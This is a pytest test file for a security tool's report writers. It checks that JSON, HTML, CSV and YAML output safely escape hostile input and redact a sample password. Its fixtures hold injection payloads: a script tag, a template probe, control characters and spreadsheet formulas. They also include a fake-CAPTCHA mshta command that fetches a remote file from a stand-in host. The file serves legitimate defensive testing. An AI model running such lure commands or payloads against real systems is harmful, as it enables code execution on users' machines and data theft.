"""The rows, page and files that are written of a pre-flight and of a verify."""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import json
import re
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any, get_type_hints

import pytest

from builders import connection, process_start
from douse.harden.preflight.decisions import read_decisions
from douse.harden.preflight.result import VERDICTS, PreflightResult
from douse.hunt.result import Problem
from douse.report import preflight_schema as schema
from douse.report import preflight_verify
from douse.report.preflight import preflight_document
from douse.report.preflight_decisions import quoted, skeleton
from douse.report.preflight_formats import FORMATS
from harden.preflight.fleet_logs import DAY, HOSTS, MSHTA, days_of, form, hta, inventory, on, run
from harden.test_verify import refused, seen

HOSTILE = "\x1b[31mred\u202e<script>alert(1)</script>{{7*7}}\n- use_case: x\t\"'\\"


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> PreflightResult:
    """Two use cases on a host, one of them suspect, and hostile texts in all that comes from outside."""
    folder = tmp_path_factory.mktemp("preflight")
    inventory(folder, HOSTS[:2])
    ran = hta(9 * DAY, f'"{MSHTA}" https://verify.example/x.mp3 {HOSTILE} # I am not a robot')
    events = days_of(HOSTS[0]) + form(HOSTS[0], range(2, 9)) + on(
        HOSTS[0], [process_start(ran), connection(ran, 9 * DAY + 1, "198.51.100.77", hostname="verify.example")])
    found = run(folder, events, today=date(2026, 12, 20))
    use = replace(found.uses[0], hosts=(HOSTILE, "=cmd()"), users=(HOSTILE,), parent=HOSTILE)
    return replace(found, uses=(use, *found.uses[1:]), notes=(HOSTILE,), unlisted=(HOSTILE,),
                   problems=(Problem("loss", HOSTILE, HOSTILE, 3, "Look again."),), command_line=HOSTILE)


def written(result: PreflightResult, word: str) -> str:
    """A format's text."""
    return b"".join(FORMATS[word](preflight_document(result))).decode("utf-8")


def keys_of(row: dict[str, Any], shape: type) -> None:
    """A row has the keys of its TypedDict and no others."""
    assert set(row) == set(get_type_hints(shape)), shape


def test_rows_have_the_keys_that_are_described(result: PreflightResult) -> None:
    document = json.loads(written(result, "json"))
    keys_of(document, schema.PreflightDocument)
    keys_of(document["hosts"][0], schema.PreflightHostRow)
    keys_of(document["use_cases"][0], schema.UseCaseRow)
    assert document["coverage"] == {"hosts": 2, "covered": 1}
    assert [use["class"] for use in document["use_cases"]] == ["suspect", "business candidate"]
    assert document["use_cases"][0]["hosts"] == [HOSTILE, "=cmd()"]  # as the log has it
    assert "\\u001b" in written(result, "json")
    assert "\x1b" not in written(result, "json")


def test_the_page_shows_hostile_text_and_runs_nothing(result: PreflightResult) -> None:
    page = written(result, "html")
    assert page.count("<script>") == 1
    assert "\x1b" not in page
    assert "\u202e" not in page
    assert "49" not in re.findall(r"red[^<]{0,80}", html.unescape(page))[0]
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy
    for tag in ("style", "script"):
        content = re.search(rf"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
        assert content
        digest = base64.b64encode(hashlib.sha256(content[1].encode()).digest()).decode()
        assert f"sha256-{digest}" in html.unescape(policy[1])
    assert not re.search(r"\sstyle=|\son\w+=|https?://(?!www\.w3\.org)[^\s<\"']*[\"']", page.split("<body>")[1])


@pytest.mark.parametrize("verdict", VERDICTS)
def test_every_verdict_has_its_banner_and_what_to_do(result: PreflightResult, verdict: str) -> None:
    page = written(replace(result, verdict=verdict), "html")
    assert f'<h1 id="verdict" class="verdict-word">{verdict}</h1>' in page
    assert "What to do next" in page
    assert 'aria-label="50 percent' in page


def test_long_lists_are_cut_on_the_page_and_whole_elsewhere(result: PreflightResult) -> None:
    uses = tuple(replace(result.uses[1], id=f"U-{number:04}") for number in range(450))
    many = replace(result, uses=uses)
    assert "And 250 more use cases" in written(many, "html")
    assert len(json.loads(written(many, "json"))["use_cases"]) == 450
    assert sum(row["row"] == "use case" for row in csv.DictReader(io.StringIO(written(many, "csv")))) == 450


def test_csv_is_no_formula_and_has_uses_and_hosts(result: PreflightResult) -> None:
    rows = list(csv.DictReader(io.StringIO(written(replace(result, unlisted=("=1+1",)), "csv"))))
    assert [row["row"] for row in rows] == ["use case", "use case", "host", "host", "unlisted host"]
    assert rows[-1]["hosts"] == "'=1+1"
    assert [row["covered"] for row in rows[2:4]] == ["yes", "no"]
    assert rows[0]["open"]


def test_a_skeleton_is_read_back_and_settles_nothing(result: PreflightResult, tmp_path: Path) -> None:
    file = tmp_path / "decisions.yml"
    file.write_bytes(skeleton(preflight_document(result)))
    decisions = read_decisions(file, "mshta.exe")
    assert [one.use_case for one in decisions] == [use.id for use in result.uses]
    assert not any(one.decision or one.owner or one.signed for one in decisions)


def test_quoted_text_is_one_scalar_whatever_it_holds() -> None:
    import yaml

    for code in (*range(0x300), 0x85, 0x2028, 0x202E, 0xD800, 0xFEFF, 0xFFFE, 0xFFFF, 0x1F600, 0x10FFFF):
        text = quoted(f"a: {chr(code)} # {{b}}")
        assert "\n" not in text
        loaded = yaml.safe_load(f"- about: {text}\n")
        assert list(loaded[0]) == ["about"]
        assert isinstance(loaded[0]["about"], str)


def test_verify_rows_and_csv(tmp_path: Path) -> None:
    ran = hta(100, "mshta.exe a.hta --password hunter2secret")
    found = seen(tmp_path, [process_start(ran, "security"), refused(ran, 102, "203.0.113.5")])
    document = preflight_verify.verify_document(found)
    keys_of(dict(document), schema.VerifyDocument)
    keys_of(dict(document["hits"][0]), schema.HitRow)
    keys_of(dict(document["hosts"][0]), schema.VerifyHostRow)
    for word, make in preflight_verify.FORMATS.items():
        text = b"".join(make(document)).decode()
        assert "hunter2secret" not in text, word
        assert "203.0.113.5" in text
